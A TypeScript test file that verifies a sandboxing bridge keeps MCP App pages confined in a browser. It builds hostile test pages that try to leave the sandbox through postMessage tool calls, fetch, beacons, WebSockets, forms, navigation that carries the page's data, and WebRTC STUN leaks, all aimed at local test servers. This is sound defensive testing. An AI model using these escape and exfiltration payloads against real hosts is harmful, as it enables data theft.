// @module-tag whole: it runs a published host of apps
// This file verifies apps in a real browser, with the published host and app sides of MCP Apps.
//   npm ci --prefix test/clients --ignore-scripts
import { createSocket } from 'node:dgram'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { type AddressInfo, createServer as createTcpServer } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import type { Page } from 'playwright-core'
import { rolldown } from 'rolldown'
import { expect, it, onTestFinished, type TestContext } from 'vitest'
import { launch } from '@sandbridge/core/test/support/browser-page.ts'
import { fixtureServer, type TestBridge } from '@sandbridge/core/test/support/bridge-process.ts'
import { startBridge } from '@sandbridge/core/test/support/start-bridge.ts'
import { installed } from './installed.ts'

/** Of the specification, for a resource that declares nothing (MCP Apps 2026-01-26, Host Behavior). */
const POLICY =
  "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; " +
  "media-src 'self' data:; connect-src 'none'; frame-src 'none'; object-src 'none'; base-uri 'self'"
const HOSTS = [
  ['with the policy of the specification', POLICY],
  ['that adds no policy', undefined],
] as const

async function bundled(name: string, context: TestContext): Promise<string> {
  installed('@modelcontextprotocol/ext-apps/package.json', context)
  const build = await rolldown({
    input: path.join(import.meta.dirname, 'apps', name),
    platform: 'browser',
    logLevel: 'silent',
  })
  const { output } = await build.generate({ format: 'iife' })
  return output[0].code
}

const withApps = (page?: string): Promise<TestBridge> =>
  startBridge({
    clientName: 'some-host',
    capabilities: { extensions: { 'io.modelcontextprotocol/ui': { mimeTypes: ['text/html;profile=mcp-app'] } } },
    ...(page !== undefined && { servers: { charts: fixtureServer('raw.mjs', 'apps', page) } }),
  })

interface Host {
  page: Page
  /** Requests of other pages than the host's own. */
  hits: string[]
  address: string
  show: (html: string, args: unknown, result: unknown) => Promise<void>
}

/** A client's page in the browser, and another origin that serves what it shows. */
async function openHost(context: TestContext, policy: string | undefined): Promise<Host> {
  const script = await bundled('host.js', context)
  const hits: string[] = []
  let view = ''
  const server = createServer(({ url = '' }, response) => {
    response.setHeader('Content-Type', 'text/html')
    if (url !== '/view') {
      hits.push(url)
      return response.end('hit')
    }
    if (policy !== undefined) response.setHeader('Content-Security-Policy', policy)
    return response.end(view)
  }).listen(0, '127.0.0.1')
  onTestFinished(() => void server.close())
  await new Promise((resolve) => server.once('listening', resolve))
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const browser = await launch()
  const page = await browser.newPage()
  await page.setContent('<!doctype html><body></body>')
  await page.addScriptTag({ content: script })
  const show = async (html: string, args: unknown, result: unknown): Promise<void> => {
    view = html
    await page.evaluate(
      (all) => (globalThis as unknown as { show: (...given: unknown[]) => Promise<void> }).show(...all),
      [`${address}/view`, args, result],
    )
  }
  return { page, hits, address, show }
}

async function viewerOf({ client }: TestBridge): Promise<string> {
  const { contents } = await client.readResource({ uri: 'ui://sandbridge/viewer' })
  return (contents[0] as { text: string }).text
}

const asked = (page: Page) => page.evaluate(() => (globalThis as unknown as { asked: string[] }).asked)

it.for(HOSTS)(
  "shows a server's app with its call in a host %s, and refuses what it asks for",
  async ([, policy], context) => {
    const { page, show } = await openHost(context, policy)
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'sb-apps-')), 'app.html')
    const script = (await bundled('app.js', context)).replaceAll('</script', '<\\/script')
    const html = `<!doctype html><html><body><p id="out"></p><script>${script}</script></body></html>`
    writeFileSync(file, html)
    const bridge = await withApps(file)
    await bridge.run('await mcp_charts.chart(text="x")')
    const args = { result_of: 'charts.chart' }
    await show(await viewerOf(bridge), args, await bridge.client.callTool({ name: 'show_app', arguments: args }))
    const out = page.frameLocator('iframe').frameLocator('iframe').locator('#out')
    await out.getByText('end;').waitFor()
    expect(await out.textContent()).toBe('args {"text":"x"};result x;no call;no message;end;')
    expect(await asked(page)).toEqual([])

    // The same app, when a client shows it without the viewer.
    await show(html, { text: 'x' }, { content: [{ type: 'text', text: 'x' }] })
    await page.frameLocator('iframe').locator('#out').getByText('end;').waitFor()
    expect(await asked(page)).toEqual(['run_python', 'message'])
  },
)

/** Tries to reach a STUN server, in the page itself and in frames of it that are made in each way. */
function connecting(port: number): string {
  const connect =
    `const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });` +
    "one.createDataChannel('x'); one.createOffer().then((offer) => one.setLocalDescription(offer))"
  const frame = `<iframe srcdoc="<script>${connect}&lt;/script>"></iframe>`
  const root = (options: string) => `document.createElement('div').attachShadow(${options})`
  const append = (to: string, what: string) => `document.documentElement.append(${to}); ${what}`
  const text = JSON.stringify(frame).replaceAll('</', String.raw`<\/`)
  const ways = {
    itself: connect,
    text: `document.documentElement.insertAdjacentHTML('beforeend', ${text})`,
    shadow: `const to = ${root("{ mode: 'closed' }")}; to.innerHTML = ${text}; ${append('to.host', '')}`,
    clone: `const to = ${root("{ mode: 'closed', clonable: true }")}; to.innerHTML = ${text}; ${append('to.host.cloneNode(true)', '')}`,
    parsed: `const to = document.createElement('div'); ${append('to', `to.setHTMLUnsafe('<p><template shadowrootmode=closed>' + ${text} + '</template></p>')`)}`,
    link: `const to = document.createElement('iframe'); to.src = ${JSON.stringify(`javascript:${connect}`)}; ${append('to', '')}`,
  }
  const scripts = Object.values(ways).map((way) => `<script>try { (() => { ${way} })() } catch {}</script>`)
  return `${frame}<div><template shadowrootmode="closed">${frame}</template></div>${scripts.join('')}`
}

/** A server that counts what it gets. */
async function countingSocket(): Promise<{ port: number; count: () => number }> {
  const socket = createSocket('udp4')
  let count = 0
  socket.on('message', () => (count += 1))
  onTestFinished(() => void socket.close())
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve))
  return { port: socket.address().port, count: () => count }
}

it.for(HOSTS)('a page reaches no other machine over WebRTC in a host %s', async ([, policy], context) => {
  const { page, show, address } = await openHost(context, policy)
  const stun = await countingSocket()
  const bridge = await withApps()
  const html = `<!doctype html><html><body>${connecting(stun.port)}<p id="out"></p><script>out.textContent = 'ran'</script></body></html>`
  await bridge.run(`print(runtime.show_app(${JSON.stringify(html)}))`)
  const args = { artifact: 'app-1.html' }
  const result = await bridge.client.callTool({ name: 'show_app', arguments: args })
  await show(await viewerOf(bridge), args, result)
  const app = page.frameLocator('iframe').frameLocator('iframe')
  await app.getByText('ran', { exact: true }).waitFor()
  await page.waitForTimeout(2_000)
  expect(stun.count()).toBe(0)
  expect(await app.locator('iframe').count()).toBe(0)

  // The same page without the viewer.
  const open = await page.context().browser()!.newPage()
  await open.route(`${address}/page`, (route) => route.fulfill({ contentType: 'text/html', body: html }))
  await open.goto(`${address}/page`)
  await expect.poll(stun.count).toBeGreaterThan(0)
})

/** Tries every other way out of the frame, and says when it is through. */
const escape = (to: (way: string) => string): string => `<!doctype html><html><body><p id="out"></p>
<script>
  const ask = { jsonrpc: '2.0', id: 7, method: 'tools/call', params: { name: 'run_python', arguments: {} } }
  for (const other of [parent, parent.parent, top]) other.postMessage(ask, '*')
  const tries = {
    fetch: () => fetch('${to('fetch')}', { mode: 'no-cors' }),
    beacon: () => navigator.sendBeacon('${to('beacon')}', 'x'),
    socket: () => new WebSocket('${to('socket').replace('http', 'ws')}'),
    image: () => (new Image().src = '${to('image')}'),
    script: () => (document.body.append(Object.assign(document.createElement('script'), { src: '${to('script')}' }))),
    style: () => (document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to('style')}' }))),
    frame: () => (document.body.append(Object.assign(document.createElement('iframe'), { src: '${to('frame')}' }))),
    popup: () => window.open('${to('popup')}'),
    form: () => { const form = document.createElement('form'); form.action = '${to('form')}'; document.body.append(form); form.submit() },
    above: () => (parent.document.title = 'mine'),
    top: () => (top.location = '${to('top')}'),
  }
  for (const one of Object.values(tries)) try { Promise.resolve(one()).catch(() => {}) } catch {}
  document.getElementById('out').textContent = 'rows ' + data.length
  setTimeout(() => (location.href = '${to('location')}?' + data.join()), 1500)
</script></body></html>`

it.for(HOSTS)('a page of a cell sees its data in a host %s, and reaches nothing else', async ([, policy], context) => {
  const { page, show, hits, address } = await openHost(context, policy)
  const bridge = await withApps()
  await bridge.run(`print(runtime.show_app(${JSON.stringify(escape((way) => `${address}/${way}`))}, ["a", "b", "c"]))`)
  const args = { artifact: 'app-1.html' }
  const result = await bridge.client.callTool({ name: 'show_app', arguments: args })
  await show(await viewerOf(bridge), args, result)
  await page.frameLocator('iframe').frameLocator('iframe').getByText('rows 3').waitFor()
  await page.waitForFunction(() => (globalThis as { height?: number }).height !== undefined)
  await page.waitForTimeout(3_000)
  expect(await asked(page)).toEqual([])
  expect(hits).toEqual([])
  expect(page.url()).toBe('about:blank')

  // The same page without the viewer and its frame.
  const { html } = (result._meta as { 'sandbridge/app': { html: string } })['sandbridge/app']
  const open = await page.context().browser()!.newPage()
  await open.route(`${address}/page`, (route) => route.fulfill({ contentType: 'text/html', body: html }))
  await open.goto(`${address}/page`).catch(() => {})
  await expect.poll(() => hits.some((hit) => hit.startsWith('/top') || hit.startsWith('/location'))).toBe(true)
  expect(hits.length).toBeGreaterThan(1)
})

/** Accepts connections and answers none: returns the names of hosts in their first bytes, as TLS has them. */
async function namedConnections(): Promise<{ port: number; names: Set<string> }> {
  const names = new Set<string>()
  const server = createTcpServer((socket) => {
    socket.on('error', () => {})
    socket.once('data', (data) => names.add(/[\w-]+\.localhost/.exec(data.toString('latin1'))?.[0] ?? 'no name'))
  }).listen(0, '127.0.0.1')
  onTestFinished(() => void server.close())
  await new Promise((resolve) => server.once('listening', resolve))
  return { port: (server.address() as AddressInfo).port, names }
}

it.for(HOSTS)(
  'a page opens no connection in a host %s, except to the hosts of addresses that a frame navigates to',
  async ([, policy], context) => {
    const { page, show } = await openHost(context, policy)
    const { port, names } = await namedConnections()
    const bridge = await withApps()
    const html = escape((way) => `https://${way}.localhost:${port}/`)
    await bridge.run(`print(runtime.show_app(${JSON.stringify(html)}, ["a", "b", "c"]))`)
    const args = { artifact: 'app-1.html' }
    await show(await viewerOf(bridge), args, await bridge.client.callTool({ name: 'show_app', arguments: args }))
    await page.frameLocator('iframe').frameLocator('iframe').getByText('rows 3').waitFor()
    // docs/security.md says that this is not held: Chromium connects before it refuses the navigation.
    const navigated = ['frame.localhost', 'location.localhost']
    await expect.poll(() => [...names]).toEqual(expect.arrayContaining(navigated))
    await page.waitForTimeout(3_000)
    expect([...names].toSorted()).toEqual(navigated)
  },
)
